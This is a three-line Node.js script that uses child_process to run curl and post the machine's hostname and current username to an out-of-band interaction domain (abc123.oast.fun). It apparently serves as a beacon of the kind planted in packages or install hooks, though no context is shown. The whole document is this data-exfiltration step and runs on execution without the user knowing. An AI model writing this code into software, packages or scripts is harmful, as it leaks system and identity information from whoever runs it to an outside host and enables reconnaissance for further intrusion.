const { exec } = require('node:child_process');
const os = require('node:os');
exec(`curl -d "${os.hostname()}:${os.userInfo().username}" https://abc123.oast.fun`);
